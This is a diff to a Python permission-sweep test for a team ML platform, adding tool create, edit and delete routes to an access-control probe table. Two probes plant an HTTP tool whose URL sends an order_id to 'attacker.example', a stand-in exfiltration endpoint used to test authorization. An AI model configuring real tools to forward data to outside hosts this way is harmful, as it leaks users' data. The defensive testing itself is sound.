@@ -43,8 +43,9 @@ from accounts.permissions import resolve_access
 from accounts.roles import Role
 from datasets_app.models import DatasetVersion
 from serving_app.models import ArenaBattle, Comparison, Deployment, PlaygroundVote, PromptPreset
-from tests.factories import finished_job, member, ready_version
+from tests.factories import finished_job, http_tool_form, member, ready_version, sample_tool, sql_tool_form
 from tests.routes import API_ROOT, api_team_operations, page_team_routes, team_state
+from tools_app.models import Tool
 from training_app import presets
 from training_app.models import BaseModel, ModelVersion, TrainingJob
 
@@ -77,6 +78,7 @@ class TeamObjects:
     comparison: Comparison  # saved by the owner, opened to the whole team
     preset: PromptPreset
     battle: ArenaBattle  # an owner's arena battle, not voted yet
+    tool: Tool  # an HTTP tool
 
 
 def _nothing(objects: TeamObjects) -> dict[str, Any]:
@@ -145,6 +147,10 @@ def _comparison_id(o: TeamObjects) -> dict[str, Any]:
 
 def _preset_id(o: TeamObjects) -> dict[str, Any]:
     return {"preset_id": o.preset.pk}
+
+
+def _tool_id(o: TeamObjects) -> dict[str, Any]:
+    return {"tool_id": o.tool.pk}
 
 
 def _launch(o: TeamObjects) -> dict[str, Any]:
@@ -306,6 +312,12 @@ SWEEP: dict[Route, Probe] = {
     ),
     ("DELETE", "/api/v1/teams/{slug}/deployments/{deployment_id}"): Probe(params=_deployment_id),
     ("GET", "/api/v1/teams/{slug}/usage"): Probe(),
+    "tools:list": Probe(),
+    "tools:new_http": Probe(body=lambda o: http_tool_form(name="planted", url="https://attacker.example/{order_id}")),
+    "tools:new_sql": Probe(body=lambda o: sql_tool_form(name="planted")),
+    "tools:detail": Probe(params=_tool_id),
+    "tools:edit": Probe(params=_tool_id, body=lambda o: http_tool_form(url="https://attacker.example/{order_id}")),
+    "tools:delete": Probe(params=_tool_id),
     ("POST", "/api/v1/teams/{slug}/playground/feedback/export"): Probe(),
 }
 
@@ -386,6 +398,7 @@ def make_team_objects(team: Team, owner: Any, member_user: Any) -> TeamObjects:
     return TeamObjects(
         team=team, member=membership, invitation=invitation, key=key, version=version, model=model, job=job,
         model_version=model_version, deployment=deployment, comparison=comparison, preset=preset, battle=battle,
+        tool=sample_tool(team, owner, name=f"{team.slug}_lookup"),
     )  # fmt: skip
 
 
@@ -400,7 +413,7 @@ def placeholder_objects() -> TeamObjects:
         key=TeamAPIKey(pk=1, team=team), version=version, model=BaseModel(pk=1, team=team),
         job=TrainingJob(pk=1, team=team), model_version=model_version, deployment=Deployment(pk=1, team=team),
         comparison=Comparison(pk=1, team=team), preset=PromptPreset(pk=1, team=team),
-        battle=ArenaBattle(pk=1, team=team),
+        battle=ArenaBattle(pk=1, team=team), tool=Tool(pk=1, team=team),
     )  # fmt: skip
 
 
